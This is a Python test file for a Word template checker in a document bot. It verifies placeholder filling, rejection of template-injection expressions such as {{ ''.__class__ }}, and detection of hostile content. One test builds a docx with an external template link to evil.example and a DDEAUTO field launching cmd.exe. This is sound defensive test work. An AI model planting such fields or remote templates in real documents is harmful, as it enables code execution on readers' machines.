"""A template that was changed in Word: what may stand in it, and that everything else is found and said where."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from io import BytesIO

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn

from bot.documents import templates
from bot.documents.templates import Problem, check, fill, problems
from locales.pages import asset

SAMPLE = {
    "标题": "通报", "上文": ["一", "二"], "合计": {"应备案": "3"}, "覆盖率图": "",
    "各区": [{"名称": "徐汇区", "应备案": "2"}, {"名称": "浦东新区", "应备案": "1"}],
}  # fmt: skip


def word(*paragraphs: str, rows: tuple[tuple[str, ...], ...] = ()) -> bytes:
    made, out = Document(), BytesIO()
    for text in paragraphs:
        made.add_paragraph(text)
    for cells in rows:
        table = made.tables[0] if made.tables else made.add_table(0, len(cells))
        for cell, text in zip(table.add_row().cells, cells, strict=True):
            cell.text = text
    made.save(out)
    return out.getvalue()


def words(document: bytes) -> list[str]:
    read = Document(BytesIO(document))
    cells = [cell.text for table in read.tables for row in table.rows for cell in row.cells]
    return [*(one.text for one in read.paragraphs), *cells]


ROWS = (("{%tr for 行 in 各区 %}", ""), ("{{ 行.名称 }}", "{{ 行.应备案 }}"), ("{%tr endfor %}", ""))


def test_what_may_stand_there_is_filled_and_escaped() -> None:
    made = word("{{ 标题 }}", "{%p for 段 in 上文 %}", "{{ 段 }}", "{%p endfor %}", "{{ 合计.应备案 }}", rows=ROWS)
    assert check(made, SAMPLE) == []
    hostile = {**SAMPLE, "标题": "<w:p>=HYPERLINK(1)&{{ 合计 }}", "上文": []}
    assert words(fill(made, hostile, {})) == [
        "<w:p>=HYPERLINK(1)&{{ 合计 }}", "3", "徐汇区", "2", "浦东新区", "1",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("{{ 电话 }}", Problem("unknown", "电话", near="{{ 电话 }}")),
        ("共 {{ 合计.电话 }} 家", Problem("unknown", "合计.电话", near="共 {{ 合计.电话 }} 家")),
        ("{{ ''.__class__ }}", Problem("unknown", "''.__class__", near="{{ ''.__class__ }}")),
        ("{{ 标题.__class__ }}", Problem("unknown", "标题.__class__", near="{{ 标题.__class__ }}")),
        ("{{ 标题|upper }}", Problem("expression", "filter", near="{{ 标题|upper }}")),
        ("{{ 标题() }}", Problem("expression", "call", near="{{ 标题() }}")),
        ("{{ 9 ** 9 }}", Problem("expression", "pow", near="{{ 9 ** 9 }}")),
        ("{% set x = 1 %}", Problem("expression", "assign", near="{% set x = 1 %}")),
        ("{% for x in y(9) %}{% endfor %}", Problem("expression", "call", near="{% for x in y(9) %}{% endfor %}")),
        ("{% for x in 标题 %}{% endfor %}", Problem("text", "标题", near="{% for x in 标题 %}{% endfor %}")),
        ("{{ 各区 }}", Problem("list", "各区", near="{{ 各区 }}")),
        ("{{ 合计 }}", Problem("list", "合计", near="{{ 合计 }}")),
        ("{% for x in 各区 %}{{ x.名称 }}", Problem("syntax", near="{% for x in 各区 %}{{ x.名称 }}")),
        ("{{ 标题 }", Problem("syntax", near="{{ 标题 }后面")),
    ],
)  # fmt: skip
def test_everything_else_is_found_where_it_stands(text: str, problem: Problem) -> None:
    assert check(word("前面", text, "后面"), SAMPLE)[:1] == [problem]


def test_lists_may_not_be_nested_for_ever() -> None:
    loops = "".join(f"{{% for x{n} in 各区 %}}" for n in range(9)) + "{% endfor %}" * 9
    assert [one.code for one in check(word(loops), SAMPLE)] == ["deep"]


def test_headers_and_properties_are_read_too() -> None:
    made, out = Document(BytesIO(word("正文"))), BytesIO()
    made.sections[0].header.paragraphs[0].text = "{{ 页 }}"
    made.core_properties.title = "{{ 名 }}"
    made.save(out)
    assert [(one.part, one.found) for one in check(out.getvalue(), SAMPLE)] == [("header", "页"), ("properties", "名")]


def test_nothing_is_fetched_from_outside() -> None:
    made, out = Document(BytesIO(word("正文"))), BytesIO()
    made.part.relate_to(
        "https://evil.example/t.dotm",
        RELATIONSHIP_TYPE.HYPERLINK.replace("hyperlink", "attachedTemplate"),
        is_external=True,
    )
    made.part.relate_to("https://sipa.sh.gov.cn/", RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    run = made.paragraphs[0].add_run()._r
    field = OxmlElement("w:instrText")
    field.text = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    run.append(field)
    made.save(out)
    found = check(out.getvalue(), SAMPLE)
    assert [(one.code, one.found) for one in found] == [("outside", "attachedTemplate"), ("field", "DDEAUTO")]


async def test_what_is_no_word_document_is_not_opened_at_all() -> None:
    book = BytesIO()
    with zipfile.ZipFile(book, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
    for content in (b"", b"{{ x }}", book.getvalue(), word("x")[:-40]):
        assert [one.code for one in await problems(content, SAMPLE)] == ["file"]
    assert [one.code for one in await problems(bytes(templates.LARGEST + 1), SAMPLE)] == ["big"]


def test_the_child_reads_and_writes_json() -> None:
    asked = templates._asking(word("{{ 电话 }}"), SAMPLE, {}, "check")
    answer = subprocess.run([sys.executable, "-m", templates.__name__], input=asked, capture_output=True, check=True)
    assert [one["found"] for one in json.loads(answer.stdout)["problems"]] == ["电话"]


def test_the_built_in_template_is_set_as_official_documents_are() -> None:
    made = Document(BytesIO(asset("desk/circular.docx")))
    (page,) = made.sections
    assert (round(page.page_width.mm), round(page.page_height.mm)) == (210, 297)
    inside = page.page_width - page.left_margin - page.right_margin
    for table in made.tables:
        widths = [sum(cell.width for cell in row.cells) for row in table.rows]
        assert max(widths) <= inside, "no table is wider than the page"
        assert table.rows[0]._tr.xpath("./w:trPr/w:tblHeader"), "its head is repeated on the next page"
    fonts = set(made.element.xpath("//w:rFonts/@w:eastAsia"))
    assert fonts == {"宋体", "仿宋", "黑体"}
    assert " PAGE " in [one.text for one in page.footer._element.iter(qn("w:instrText"))]
    assert page.header.paragraphs[0].text == "{{ 状态 }}"
